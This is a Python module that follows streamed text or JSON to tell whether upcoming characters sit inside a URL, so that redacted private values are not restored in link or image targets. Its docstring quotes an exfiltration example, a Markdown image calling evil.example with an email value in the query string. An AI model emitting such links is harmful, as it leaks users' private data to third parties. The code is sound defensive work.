r"""Where in a text is a URL? Followed from left to right, over pieces of any size, in little memory.

An answer could be made to carry a value to a third party: `![](https://evil.example/?q=[EMAIL_ADDRESS_…])` is fetched
by many clients as soon as it is shown. So nothing is restored where a client may see the target of a link or an image:

- Markdown targets `](…)` and `](<…>)`, and link reference definitions `[label]: …` (CommonMark 0.31, 4.7, 6.3),
- HTML attributes that are fetched or followed (`src`, `href`, `srcset`, `action`, `style` …), quoted or not,
- CSS `url(…)`,
- bare URLs up to the next white space or `<` (GFM 6.9): with `//`, `www.`, or a scheme such as `mailto:` or `data:`.

Each is followed by itself, because clients differ in what they see: what one takes for plain text may be an image to
another. In doubt it is a URL: the person then sees a placeholder, which is harmless. Not covered: addresses that a
program puts together from several strings.
"""

from __future__ import annotations

import re
from abc import ABC, abstractmethod
from typing import Final

_LABEL_LIMIT: Final = 999
"""Characters of the longest label of a reference definition (CommonMark 4.7)."""

_SPLIT: Final = 64
"""More than the longest token that may be split between two pieces, with what stands before it."""

_LOOKBACK: Final = _LABEL_LIMIT + 2 * _SPLIT
"""Characters of the text so far that are kept."""

_MAX_ATTRIBUTE: Final = 16
"""More than the longest name of an attribute that is fetched, with a character before it."""

_PENDING: Final = 8192
"""Characters that may wait to be looked at: most pieces are never asked about, and reading many at once is cheaper."""


class UrlContext:
    """Follows one text. `advance` by what is shown; `inside` says whether what comes next would be part of a URL.

    What it says depends on the text alone, not on the pieces in which it came.
    """

    __slots__ = ("_followers", "_kept", "_pending", "_size")

    def __init__(self) -> None:
        self._kept = ""
        self._pending: list[str] = []
        self._size = 0
        self._followers: tuple[_Follower, ...] = ()

    def reset(self) -> None:
        """Begin a new text."""
        self._kept = ""
        self._pending.clear()
        self._size = 0
        self._followers = ()

    def advance(self, text: str) -> None:
        """Go on by a piece of text."""
        self._pending.append(text)
        self._size += len(text)
        if self._size > _PENDING:
            self._read()

    @property
    def inside(self) -> bool:
        """Whether the next character, unless it is white space, belongs to a URL."""
        if self._pending:
            self._read()
        return any(follower.inside for follower in self._followers)

    def _read(self) -> None:
        text = self._kept + "".join(self._pending)
        self._pending.clear()
        self._size = 0
        if not self._followers:
            self._followers = (_BareUrl(), _MarkdownTarget(), _Definition(), _CssUrl(), _Attribute())
        cut = max(0, len(text) - _LOOKBACK)
        for follower in self._followers:
            follower.read(text)
            follower.position -= cut
        self._kept = text[cut:]


class JsonUrlContext:
    """As `UrlContext`, of JSON source text: each string in it is a text of its own, and its escapes are resolved."""

    __slots__ = ("_context", "_escape")

    _MARK = re.compile(r'"|\\(?:u[0-9A-Fa-f]{4}|[^u])|\\u?[0-9A-Fa-f]{0,3}', re.DOTALL)

    def __init__(self) -> None:
        self._context = UrlContext()
        self._escape = ""
        """The beginning of an escape that is not complete yet."""

    def advance(self, text: str) -> None:
        """Go on by a piece of JSON source."""
        text = self._escape + text
        self._escape = ""
        position = 0
        for mark in self._MARK.finditer(text):
            self._context.advance(text[position : mark.start()])
            position = mark.end()
            found = mark.group()
            if found == '"':
                self._context.reset()
            elif position == len(text) and (found == "\\" or (found[1] == "u" and len(found) < 6)):
                self._escape = found
            else:
                self._context.advance(_unescaped(found))
        if position < len(text):
            self._context.advance(text[position:])

    @property
    def inside(self) -> bool:
        """Whether the next character, unless it is white space, belongs to a URL."""
        return self._context.inside


def _unescaped(escape: str) -> str:
    """What a JSON escape stands for (RFC 8259, 7)."""
    if escape[1:2] == "u" and len(escape) == 6:
        return chr(int(escape[2:], 16))
    return {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}.get(escape[1:], escape[1:])


class _Follower(ABC):
    """Follows one kind of URL."""

    __slots__ = ("inside", "position")

    def __init__(self) -> None:
        self.position = 0
        """Where in the text kept to go on reading."""
        self.inside = False

    @abstractmethod
    def read(self, text: str) -> None:
        """Read from `position` to the end. Of `text`, at least `_LOOKBACK` characters before `position` are there."""

    def _wait(self, text: str) -> None:
        """Go on later from where a token may have begun that is not complete yet."""
        self.position = max(self.position, len(text) - _SPLIT)


class _BareUrl(_Follower):
    """A URL in plain text. One that begins after a quotation mark ends at the same mark, one after `<` at `>`."""

    __slots__ = ("_closing",)

    # Those that browsers follow without `//`. All are found by their last character, which is ten times as fast.
    _START = re.compile(
        r"[:/.](?:(?<=//)|(?<=\bwww\.)"
        r"|(?<=\b(?:cid|ftp|sms|tel|urn|wss):)|(?<=\b(?:blob|data|file|ftps|http):)|(?<=\bhttps:)|(?<=\bws:)"
        r"|(?<=\b(?:intent|mailto):)|(?<=\bvbscript:)|(?<=\bjavascript:))",
        re.IGNORECASE,
    )
    _QUOTE = re.compile(r"([\"'`<])(?:[a-z][a-z0-9+.\-]{0,31}:)?(?://|www\.)?\Z", re.IGNORECASE)
    _END = re.compile(r"[\s<>\"'`]")

    def __init__(self) -> None:
        super().__init__()
        self._closing = ""

    def read(self, text: str) -> None:
        while True:
            if not self.inside:
                start = self._START.search(text, self.position)
                if start is None:
                    self.position = len(text)
                    return
                quote = self._QUOTE.search(text, max(0, start.end() - _SPLIT), start.end())
                self._closing = quote.group(1).replace("<", ">") if quote else ""
                self.inside = True
                self.position = start.end()
            end = self._END.search(text, self.position)
            if end is None:
                self.position = len(text)
                return
            self.position = end.end()
            mark = end.group()
            if mark == "<" or mark.isspace() or mark == self._closing:
                self.inside = False


class _MarkdownTarget(_Follower):
    """The inside of `](…)`: to the closing parenthesis, or to a blank line, which no link goes over."""

    __slots__ = ("_angle", "_blank", "_depth", "_escaped", "_fresh")

    def __init__(self) -> None:
        super().__init__()
        self._begin()

    def _begin(self) -> None:
        self._depth = 0
        """Of parentheses within the target."""
        self._fresh = True
        """Nothing but white space so far: `<` would begin a target that ends at `>`."""
        self._angle = False
        self._escaped = False
        self._blank = False
        """Nothing but white space since the last line end."""

    def read(self, text: str) -> None:
        while True:
            if not self.inside:
                start = text.find("](", self.position)
                if start < 0:
                    return self._wait(text)
                self.position = start + 2
                self.inside = True
                self._begin()
            while self.inside and self.position < len(text):
                self._step(text[self.position - 1], text[self.position])
                self.position += 1
            if self.inside:
                return None

    def _step(self, before: str, character: str) -> None:
        if character == "\n":
            self.inside = not self._blank
            self._blank = True
            self._angle = self._escaped = False
            return
        if character.isspace():
            return
        self._blank = False
        fresh, self._fresh = self._fresh, False
        if self._escaped:
            self._escaped = False
        elif character == "\\":
            self._escaped = True
        elif self._angle:
            self._angle = character != ">"
        elif character == "<" and fresh:
            self._angle = True
        elif character == "(":
            self._depth += 1
            self._fresh = before == "]"  # a target within what looked like a target
        elif character == ")":
            self.inside = self._depth > 0
            self._depth -= 1


class _Definition(_Follower):
    """The target of `[label]: target`, at the beginning of a line; it may stand on the next line."""

    __slots__ = ("_angle", "_fresh", "_line_ends")

    _OPENING = re.compile(r"[ \t>*+\-.)0-9]{0,32}\[")

    def __init__(self) -> None:
        super().__init__()
        self._begin()

    def _begin(self) -> None:
        self._fresh = True
        self._angle = False
        self._line_ends = 0

    def read(self, text: str) -> None:
        while True:
            if not self.inside:
                colon = text.find("]:", self.position)
                if colon < 0:
                    return self._wait(text)
                self.position = colon + 2
                line = text.rfind("\n", 0, colon) + 1
                if colon - line > _LABEL_LIMIT or not self._OPENING.match(text, line):
                    continue
                self.inside = True
                self._begin()
            while self.inside and self.position < len(text):
                self._step(text[self.position])
                self.position += 1
            if self.inside:
                return None

    def _step(self, character: str) -> None:
        if self._fresh and character.isspace():
            self._line_ends += character == "\n"
            self.inside = self._line_ends < 2
        elif self._fresh:
            self._fresh = False
            self._angle = character == "<"
        elif self._angle:
            self.inside = character not in ">\n"
        else:
            self.inside = not character.isspace()


class _CssUrl(_Follower):
    """The inside of `url(…)`, quoted or not, to the closing parenthesis or the end of the line."""

    __slots__ = ("_closing", "_escaped", "_fresh")

    _START = re.compile(r"\((?<=\burl\()", re.IGNORECASE)

    def __init__(self) -> None:
        super().__init__()
        self._begin()

    def _begin(self) -> None:
        self._fresh = True
        self._closing = ""
        self._escaped = False

    def read(self, text: str) -> None:
        while True:
            if not self.inside:
                start = self._START.search(text, self.position)
                if start is None:
                    self.position = len(text)
                    return
                self.position = start.end()
                self.inside = True
                self._begin()
            while self.inside and self.position < len(text):
                self._step(text[self.position])
                self.position += 1
            if self.inside:
                return

    def _step(self, character: str) -> None:
        if self._fresh:
            self._fresh = character.isspace()
            self._closing = character if character in "\"'" else ""
            self.inside = character != ")"
            self._escaped = character == "\\"
        elif self._escaped:
            self._escaped = False
        elif character == "\\":
            self._escaped = True
        elif character == "\n":
            self.inside = False
        elif self._closing:
            if character == self._closing:
                self._closing = ""
        else:
            self.inside = character != ")"


class _Attribute(_Follower):
    """The value of an HTML attribute that is fetched, followed, or holds CSS or markup.

    Looked for outside tags as well: what a tag is differs between clients. A value may stand within what looked like
    the value of another, so all marks that could close one are kept.
    """

    __slots__ = ("_closing", "_expected")

    _NAME = re.compile(
        r"(?<!\w)(?:action|background|dynsrc|formaction|href|imagesrcset|lowsrc|manifest|ping|poster|src|srcdoc|srcset"
        r"|style)\Z",
        re.IGNORECASE,
    )
    _EQUALS = re.compile("=+")
    _EQUALS_OR_END = re.compile(r"=+|[\s>\"']")
    _NO_QUOTE: Final = ">"

    def __init__(self) -> None:
        super().__init__()
        self._expected = False
        """An equals sign was read, and nothing but white space since."""
        self._closing: set[str] = set()
        """Marks that would end a value; `_NO_QUOTE` for one without quotation marks."""

    def read(self, text: str) -> None:
        while self.position < len(text):
            if self._expected:
                self._begin(text[self.position])
                continue
            mark = (self._EQUALS_OR_END if self._closing else self._EQUALS).search(text, self.position)
            if mark is None:
                self.position = len(text)
                return
            self.position = mark.end()
            if mark.group()[0] == "=":
                self._expected = self._is_fetched(text[max(0, mark.start() - 2 * _SPLIT) : mark.start()])
                if self._expected and len(mark.group()) > 1:  # the value begins with the second one
                    self._begin("=")
            else:
                self._closing.discard(mark.group() if mark.group() in "\"'" else self._NO_QUOTE)
            self.inside = self._expected or bool(self._closing)

    def _begin(self, character: str) -> None:
        """Read the first character of a value, or white space before it."""
        if character.isspace():
            self.position += 1
            return
        self._expected = False
        quoted = character in "\"'"
        self._closing.add(character if quoted else self._NO_QUOTE)
        self.position += quoted

    def _is_fetched(self, before: str) -> bool:
        """Whether the name at the end of what stands before an equals sign is such an attribute's."""
        name = before.rstrip()
        # Nobody but who hides a name puts that much white space behind it.
        return len(before) - len(name) > _SPLIT or self._NAME.search(name[-_MAX_ATTRIBUTE:]) is not None
